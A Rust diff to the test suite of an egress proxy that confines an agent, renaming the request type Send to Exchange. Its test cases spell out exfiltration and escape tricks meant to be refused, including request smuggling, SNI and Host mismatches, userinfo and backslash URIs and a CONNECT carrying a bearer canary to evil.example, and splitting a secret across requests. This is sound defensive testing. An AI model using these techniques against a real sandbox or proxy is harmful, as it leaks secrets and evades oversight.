@@ -23,7 +23,7 @@ use std::time::Duration;
 
 use bottle_policy::Route;
 use common::{Fixture, KNOWN_SECRET, TOKEN_VALUE, prefix_rule};
-use escape::{Agent, RawSink, Reply, Send, contains, ws_frame};
+use escape::{Agent, Exchange, RawSink, Reply, contains, ws_frame};
 
 /// The synthetic secret every attack tries to get out. The proxy is configured with it
 /// as a known secret value, like a value copied from the host's environment.
@@ -74,13 +74,13 @@ enum Reach {
 struct Case {
     name: &'static str,
     routes: Vec<Route>,
-    attack: Send,
+    attack: Exchange,
     expect: Expect,
     /// Extra strings that no upstream may receive, besides the canary.
     must_not_reach: Vec<String>,
     /// Byte strings that no reply to the agent may contain, besides the canary.
     must_not_echo: Vec<Vec<u8>>,
-    control: Send,
+    control: Exchange,
     /// Routes of the control when they differ from the attack's.
     control_routes: Option<Vec<Route>>,
     reach: Reach,
@@ -91,7 +91,7 @@ struct Case {
 }
 
 impl Case {
-    fn new(name: &'static str, routes: Vec<Route>, attack: Send, expect: Expect) -> Case {
+    fn new(name: &'static str, routes: Vec<Route>, attack: Exchange, expect: Expect) -> Case {
         Case {
             name,
             routes,
@@ -107,7 +107,7 @@ impl Case {
         }
     }
 
-    fn control(mut self, control: Send, reach: Reach) -> Case {
+    fn control(mut self, control: Exchange, reach: Reach) -> Case {
         self.control = control;
         self.reach = reach;
         self
@@ -179,8 +179,8 @@ fn http1(method: &str, target: &str, host: &str, headers: &[(&str, &str)], body:
     bytes
 }
 
-fn connect(authority: &str) -> Send {
-    Send::Outer(
+fn connect(authority: &str) -> Exchange {
+    Exchange::Outer(
         format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n")
             .into_bytes(),
     )
@@ -193,15 +193,15 @@ fn host_part(authority: &str) -> &str {
 }
 
 /// A request inside a TLS tunnel to `authority`, with the SNI and `Host` of its host.
-fn tunnel(authority: &str, request: Vec<u8>) -> Send {
-    Send::Tunnel {
+fn tunnel(authority: &str, request: Vec<u8>) -> Exchange {
+    Exchange::Tunnel {
         authority: authority.to_owned(),
         sni: Some(host_part(authority).to_owned()),
         bytes: request,
     }
 }
 
-fn tunnel_get(authority: &str, path: &str) -> Send {
+fn tunnel_get(authority: &str, path: &str) -> Exchange {
     tunnel(
         authority,
         http1("GET", path, host_part(authority), &[], b""),
@@ -214,15 +214,15 @@ fn tunnel_with(
     path: &str,
     headers: &[(&str, &str)],
     body: &[u8],
-) -> Send {
+) -> Exchange {
     tunnel(
         authority,
         http1(method, path, host_part(authority), headers, body),
     )
 }
 
-fn plain_get(path: &str) -> Send {
-    Send::Outer(http1(
+fn plain_get(path: &str) -> Exchange {
+    Exchange::Outer(http1(
         "GET",
         &format!("http://{PLAIN}{path}"),
         PLAIN,
@@ -247,16 +247,16 @@ fn h2_headers(method: &str, path: &str, extra: &[(&str, &[u8])]) -> Vec<(Vec<u8>
     headers
 }
 
-fn h2(headers: Vec<(Vec<u8>, Vec<u8>)>, data: Option<&[u8]>) -> Send {
-    Send::Http2 {
+fn h2(headers: Vec<(Vec<u8>, Vec<u8>)>, data: Option<&[u8]>) -> Exchange {
+    Exchange::Http2 {
         authority: API_AUTHORITY.to_owned(),
         headers,
         data: data.map(<[u8]>::to_vec),
     }
 }
 
-fn websocket(frames: Vec<Vec<u8>>, extra: &str) -> Send {
-    Send::WebSocket {
+fn websocket(frames: Vec<Vec<u8>>, extra: &str) -> Exchange {
+    Exchange::WebSocket {
         authority: API_AUTHORITY.to_owned(),
         extra: extra.to_owned(),
         frames,
@@ -716,7 +716,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
     api_ok_only.matches = vec![prefix_rule("/ok", &[])];
     let plain_prefix = format!("http://{PLAIN}");
     let plain_desync =
-        |framing: &str, body: &str| Send::Outer(desync(&plain_prefix, PLAIN, framing, body));
+        |framing: &str, body: &str| Exchange::Outer(desync(&plain_prefix, PLAIN, framing, body));
     let tunnel_desync =
         |framing: &str, body: &str| tunnel(API_AUTHORITY, desync("", API, framing, body));
     let mut websocket_route = world.route(API);
@@ -736,7 +736,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "unlisted hosts refused every time under concurrency",
             api(),
-            Send::Concurrent(
+            Exchange::Concurrent(
                 (0..200)
                     .map(|i| {
                         connect(
@@ -770,14 +770,14 @@ fn routing_cases(world: &World) -> Vec<Case> {
             connect(&format!("127.0.0.1:{raw_port}")),
             denied("default"),
         )
-        .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
+        .control(Exchange::Direct(b"probe".to_vec()), Reach::RawBytes),
         Case::new(
             "host service by the name localhost",
             api(),
             connect(&format!("localhost:{raw_port}")),
             denied("default"),
         )
-        .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
+        .control(Exchange::Direct(b"probe".to_vec()), Reach::RawBytes),
         Case::new(
             "container host gateway name",
             api(),
@@ -787,7 +787,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "absolute-form request to a host service port",
             api(),
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://127.0.0.1:{raw_port}/"),
                 &format!("127.0.0.1:{raw_port}"),
@@ -796,7 +796,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
             )),
             denied("default"),
         )
-        .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
+        .control(Exchange::Direct(b"probe".to_vec()), Reach::RawBytes),
         // IP literals and missing SNI.
         Case::new(
             "sink IP literal",
@@ -807,7 +807,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "numeric IPv4 shorthand forms",
             api(),
-            Send::Concurrent(vec![
+            Exchange::Concurrent(vec![
                 connect("2130706433:443"),
                 connect("0x7f.0.0.1:443"),
                 connect("127.1:443"),
@@ -817,7 +817,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "ClientHello without SNI",
             api(),
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: API_AUTHORITY.to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", API, &[("X-Trace", CANARY)], b""),
@@ -843,7 +843,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "sink address with the allowed name in SNI and Host",
             vec![world.fixture.token_route(API)],
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: format!("127.0.0.1:{sink_port}"),
                 sni: Some(API.to_owned()),
                 bytes: http1(
@@ -869,7 +869,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "SNI differs from the CONNECT host",
             vec![world.route(API), world.route(OTHER)],
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: API_AUTHORITY.to_owned(),
                 sni: Some(OTHER.to_owned()),
                 bytes: http1("GET", "/", OTHER, &[], b""),
@@ -881,7 +881,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "absolute-form Host header differs from the URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}/"),
                 "evil.example",
@@ -894,14 +894,14 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "token route asked over plain HTTP",
             vec![world.fixture.token_route(API)],
-            Send::Outer(http1("GET", &format!("http://{API}/"), API, &[], b"")),
+            Exchange::Outer(http1("GET", &format!("http://{API}/"), API, &[], b"")),
             denied("default"),
         )
         .must_not_reach(TOKEN_VALUE),
         Case::new(
             "https absolute-form without CONNECT",
             api(),
-            Send::Outer(http1("GET", &format!("https://{API}/"), API, &[], b"")),
+            Exchange::Outer(http1("GET", &format!("https://{API}/"), API, &[], b"")),
             denied("protocol"),
         ),
         // Request smuggling on the plain listener and inside a terminated tunnel.
@@ -963,7 +963,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "request with bare LF line ends to a denied path",
             vec![ok_only.clone()],
-            Send::Outer(
+            Exchange::Outer(
                 format!(
                     "GET http://{PLAIN}/admin HTTP/1.1\nHost: {PLAIN}\nX-Trace: {CANARY}\n\
                      Connection: close\n\n"
@@ -993,7 +993,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "whitespace inside the request-target",
             vec![ok_only.clone()],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}/ok /admin"),
                 PLAIN,
@@ -1084,7 +1084,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "h2c upgrade on a plain HTTP route",
             vec![ok_only.clone()],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}/ok"),
                 PLAIN,
@@ -1172,9 +1172,9 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "client rejecting the bottle CA, then sending the canary",
             vec![world.raw_route("tunnel.allowed.example")],
-            Send::Sequence(
+            Exchange::Sequence(
                 (0..4)
-                    .map(|_| Send::Distrusting {
+                    .map(|_| Exchange::Distrusting {
                         authority: "tunnel.allowed.example:443".to_owned(),
                         bytes: http1(
                             "POST",
@@ -1190,11 +1190,11 @@ fn routing_cases(world: &World) -> Vec<Case> {
                 reason: "TLS handshake with the agent failed",
             },
         )
-        .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
+        .control(Exchange::Direct(b"probe".to_vec()), Reach::RawBytes),
         Case::new(
             "plaintext after CONNECT",
             vec![world.raw_route("tunnel.allowed.example")],
-            Send::Plaintext {
+            Exchange::Plaintext {
                 authority: "tunnel.allowed.example:443".to_owned(),
                 bytes: http1(
                     "GET",
@@ -1208,7 +1208,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
                 reason: "no TLS ClientHello after CONNECT",
             },
         )
-        .control(Send::Direct(b"probe".to_vec()), Reach::RawBytes),
+        .control(Exchange::Direct(b"probe".to_vec()), Reach::RawBytes),
         // Upstream certificate verification.
         Case::new(
             "upstream certificate from an untrusted CA",
@@ -1231,7 +1231,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "upstream reached by IP without SNI, certificate for another IP",
             vec![world.route("127.0.0.2")],
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: "127.0.0.2:443".to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", "127.0.0.2", &[], b""),
@@ -1239,7 +1239,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
             upstream_error("route[0]"),
         )
         .control(
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: "127.0.0.1:443".to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", "127.0.0.1", &[], b""),
@@ -1423,7 +1423,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "backslash before userinfo in an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}\\@evil.example/"),
                 PLAIN,
@@ -1436,7 +1436,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "userinfo in an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}:pw@evil.example/"),
                 "evil.example",
@@ -1449,7 +1449,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "fragment before userinfo in an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}#@evil.example/"),
                 PLAIN,
@@ -1467,7 +1467,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "tab inside an absolute URI",
             vec![world.fixture.plain_route(PLAIN)],
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 &format!("http://{PLAIN}\t.evil.example/"),
                 PLAIN,
@@ -1495,7 +1495,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "allowlisted loopback IP literal",
             vec![world.resolved_route("127.0.0.1")],
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: "127.0.0.1:443".to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", "127.0.0.1", &[], b""),
@@ -1503,7 +1503,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
             upstream_error("route[0]"),
         )
         .control(
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: "127.0.0.1:443".to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", "127.0.0.1", &[], b""),
@@ -1514,7 +1514,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "allowlisted IPv4-mapped loopback literal",
             vec![world.resolved_route("::ffff:127.0.0.1")],
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: "[::ffff:127.0.0.1]:443".to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", "[::ffff:127.0.0.1]", &[], b""),
@@ -1522,7 +1522,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
             upstream_error("route[0]"),
         )
         .control(
-            Send::Tunnel {
+            Exchange::Tunnel {
                 authority: "[::ffff:127.0.0.1]:443".to_owned(),
                 sni: None,
                 bytes: http1("GET", "/", "[::ffff:127.0.0.1]", &[], b""),
@@ -1533,14 +1533,14 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "the proxy's own listener through CONNECT",
             api(),
-            Send::ConnectSelf,
+            Exchange::ConnectSelf,
             denied("default"),
         ),
         // Cross-bottle identity and the management API.
         Case::new(
             "Proxy-Authorization naming another bottle",
             api(),
-            Send::Outer(
+            Exchange::Outer(
                 format!(
                     "CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\
                  Proxy-Authorization: {proxy_auth}\r\nConnection: close\r\n\r\n"
@@ -1577,7 +1577,7 @@ fn routing_cases(world: &World) -> Vec<Case> {
         Case::new(
             "approval request to the magic host over plain HTTP",
             api(),
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "POST",
                 "http://bottle.internal/approve",
                 "bottle.internal",
@@ -1776,7 +1776,7 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "canary split over three requests",
             api(),
-            Send::Sequence(
+            Exchange::Sequence(
                 [first, second, third]
                     .iter()
                     .map(|part| tunnel_get(API_AUTHORITY, &format!("/q?d={part}")))
@@ -1788,7 +1788,7 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "canary one character per request",
             api(),
-            Send::Sequence(
+            Exchange::Sequence(
                 CANARY
                     .chars()
                     .map(|c| tunnel_get(API_AUTHORITY, &format!("/q?d={c}")))
@@ -1874,7 +1874,7 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "refusal of an unresolvable host with an Authorization header",
             api(),
-            Send::Outer(http1(
+            Exchange::Outer(http1(
                 "GET",
                 "http://nonexistent.invalid/",
                 "nonexistent.invalid",
@@ -1886,7 +1886,7 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "refusal of a denied CONNECT with an Authorization header",
             api(),
-            Send::Outer(
+            Exchange::Outer(
                 format!(
                     "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\
                  Authorization: Bearer {CANARY}\r\nConnection: close\r\n\r\n"
@@ -1920,7 +1920,7 @@ fn dlp_cases(world: &World) -> Vec<Case> {
         Case::new(
             "parser error on a request with the canary in a header",
             api(),
-            Send::Outer(
+            Exchange::Outer(
                 format!(
                     "GET http://{API}/ HTTP/1.1\r\nHost: {API}\r\nX-Trace: {CANARY}\r\n\
                  Bad Header\r\n\r\n"
